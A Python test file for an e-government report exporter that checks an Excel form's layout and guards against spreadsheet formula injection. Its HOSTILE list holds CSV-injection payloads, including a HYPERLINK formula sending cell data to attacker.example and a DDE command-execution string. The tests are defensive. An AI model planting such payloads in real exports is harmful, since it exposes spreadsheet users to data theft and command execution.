import datetime as dt
import io

from openpyxl import load_workbook

from egov.reports.selectors import Row, Statistics
from egov.reports.xlsx import bieu06_workbook

from .test_narrative import sample_figures


def test_bieu06_layout_rows_and_total(world):
    figures = sample_figures()
    stats = Statistics(
        dt.date(2021, 1, 1),
        dt.date(2021, 6, 6),
        figures,
        by="field",
        rows=[Row(key=1, code="", name="Lưu thông hàng hóa trong nước", figures=figures)],
    )
    book = load_workbook(io.BytesIO(bieu06_workbook(stats, agency_name="Sở Công Thương tỉnh Quảng Ngãi")))
    sheet = book["Biểu 06"]
    assert sheet["A1"].value == "Biểu số 06/VPCP/KSTT"
    assert sheet["A3"].value == "SỞ CÔNG THƯƠNG TỈNH QUẢNG NGÃI"
    assert sheet["A4"].value == "Kỳ báo cáo: từ ngày 01/01/2021 đến ngày 06/06/2021"
    assert sheet["C6"].value == "Số hồ sơ nhận giải quyết"
    assert [sheet.cell(row=7, column=c).value for c in range(3, 8)] == [
        "Tổng số",
        "Kỳ trước chuyển qua",
        "Trực tuyến",
        "Trực tiếp",
        "Bưu chính công ích",
    ]
    assert sheet["B9"].value == "Lưu thông hàng hóa trong nước"
    assert sheet["B10"].value == "Tổng cộng"
    assert [sheet.cell(row=10, column=c).value for c in range(3, 9)] == [6279, 17, 3924, 2338, 0, 6264]
    assert sheet["C10"].font.name == "Times New Roman" and sheet["C10"].font.bold
    assert "C6:G6" in {str(r) for r in sheet.merged_cells.ranges}


# OWASP "CSV injection": cells beginning with these are read as formulas by spreadsheet programs.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_world(world):
    world.trade.name, world.power.name = HOSTILE[0], HOSTILE[1]
    world.trade.save(update_fields=["name"])
    world.power.save(update_fields=["name"])
    for version, name in ((world.alcohol, HOSTILE[2]), (world.safety_card, HOSTILE[3])):
        version.procedure.name = name
        version.procedure.save(update_fields=["name"])
    world.agency.name = HOSTILE[4]
    world.agency.save(update_fields=["name"])
    day = dt.date(2021, 3, 2)
    received = dt.datetime(2021, 3, 2, 9, tzinfo=dt.UTC)
    world.dossier(received=received, due=day + dt.timedelta(days=14), finished=received + dt.timedelta(days=3))
    world.dossier(received=received, due=day + dt.timedelta(days=14), version=world.safety_card, channel="direct")


def _assert_text_kept(sheet, expected: list[str]) -> None:
    texts = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                texts[cell.value] = cell
    for name in expected:
        assert name in texts, name
        assert texts[name].quotePrefix, name
    # The figures are still numbers a reader can add up.
    assert sheet["C11"].data_type == "n" and sheet["C11"].value == 2


def test_hostile_names_stay_text_in_the_downloaded_bieu06(world, client):
    from django.urls import reverse

    from egov.dossiers.tests.factories import make_staff
    from egov.organisations.roles import Role
    from egov.organisations.services import roles_sync

    _hostile_world(world)
    roles_sync(strict=False)
    client.force_login(make_staff(world.agency, Role.AGENCY_LEADER))
    response = client.get(reverse("reports:export_xlsx"), {"ky": "custom", "tu": "2021-01-01", "den": "2021-06-06"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Biểu 06"]
    _assert_text_kept(sheet, [HOSTILE[0], HOSTILE[1]])


def test_hostile_names_stay_text_in_the_command_bieu06(world, tmp_path):
    from django.core.management import call_command

    _hostile_world(world)
    out = tmp_path / "bieu06.xlsx"
    call_command(
        "tthc_stats",
        *("--from", "2021-01-01", "--to", "2021-06-06", "--by", "procedure", "--format", "xlsx", "--out", str(out)),
        stdout=io.StringIO(),
    )
    sheet = load_workbook(out)["Biểu 06"]
    _assert_text_kept(sheet, [HOSTILE[2], HOSTILE[3]])


def test_a_control_character_stored_before_the_boundary_rule_does_not_break_the_workbook(world):
    # Before: openpyxl refused the cell (IllegalCharacterError) and the Biểu 06 download was a 500.
    figures = sample_figures()
    stats = Statistics(
        dt.date(2021, 1, 1),
        dt.date(2021, 6, 6),
        figures,
        by="procedure",
        rows=[Row(key=1, code="", name="Cấp giấy\x1b phép", figures=figures)],
    )
    book = load_workbook(io.BytesIO(bieu06_workbook(stats, agency_name="Sở\x00 Công Thương")))
    assert book["Biểu 06"]["B9"].value == "Cấp giấy phép"
    assert book["Biểu 06"]["A3"].value == "SỞ CÔNG THƯƠNG"
